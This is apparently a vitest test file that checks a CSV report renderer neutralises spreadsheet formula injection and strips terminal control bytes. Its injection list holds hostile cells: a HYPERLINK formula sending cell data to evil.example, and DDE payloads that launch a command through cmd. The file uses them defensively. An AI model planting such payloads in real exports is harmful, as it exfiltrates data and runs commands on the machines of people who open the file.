import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ReportModel } from '../../src/report/report-model.js';
import { csvColumns, renderCsv } from '../../src/report/render-csv.js';
import { devices, emptyModel, reportModel } from './fixtures/model.js';

/** Cells a spreadsheet would evaluate as a formula, including the known bypasses. */
const injections = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=cmd',
  '\r=cmd',
  ' =cmd',
  '\u00a0=cmd',
  'safe\n=cmd',
];

/** A model with one device per injection, the payload in every text column. */
const hostileModel: ReportModel = {
  ...emptyModel,
  devices: injections.map((payload) => ({
    ...devices[0]!,
    user: payload,
    deviceId: payload,
    deviceType: payload,
    userAgent: payload,
    reason: payload,
    recommendation: payload,
    servers: [payload, 'CAS10-NY'],
    proxyTargets: [payload],
  })),
};

/** True when a cell (or any line of a multi-line cell) would start a formula. */
function startsFormula(cell: string): boolean {
  return cell.split(/\r\n|\r|\n/).some((line) => /^[\s\u00a0\ufeff]*[=+\-@]/.test(line) || /^\t/.test(line));
}

describe('renderCsv', () => {
  it('when given the fixture model then matches the golden file', async () => {
    await expect(renderCsv(reportModel)).toMatchFileSnapshot('../golden/report.csv');
  });

  it('when the model has no devices then writes the header line only', () => {
    expect(renderCsv(emptyModel)).toBe(csvColumns.join(',') + '\r\n');
  });

  it('when rendered then the columns are exactly the contract and lists are joined with "; "', () => {
    const parsed = Papa.parse<Record<string, string>>(renderCsv(reportModel), { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual([
      'user', 'deviceId', 'deviceType', 'userAgent', 'verdict', 'reason', 'recommendation', 'requests',
      'direct', 'proxy', 'redirect', 'servers', 'proxyTargets', 'firstSeen', 'lastSeen', 'lastSuccess',
    ]);
    expect(parsed.data).toHaveLength(reportModel.devices.length);
    expect(parsed.data[4]!.servers).toBe('CAS10-NY; CAS07-NY');
    expect(parsed.data[1]!.lastSuccess).toBe('');
  });

  it.each(injections.map((p) => [JSON.stringify(p), p]))('when a cell holds %s then it comes out neutralised', (_label, payload) => {
    const parsed = Papa.parse<string[]>(renderCsv({ ...hostileModel, devices: hostileModel.devices.filter((d) => d.user === payload) }), {
      skipEmptyLines: true,
    });
    const [, row] = parsed.data;
    expect(row).toBeDefined();
    const textCells = row!.filter((_, i) => !['requests', 'direct', 'proxy', 'redirect'].includes(csvColumns[i]!));
    for (const cell of textCells) {
      expect(startsFormula(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
    }
  });

  it('when a log string holds an escape sequence then the control bytes are removed', () => {
    const csv = renderCsv(reportModel);
    expect(csv).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    expect(csv).toContain(']0;pwned');
  });
});
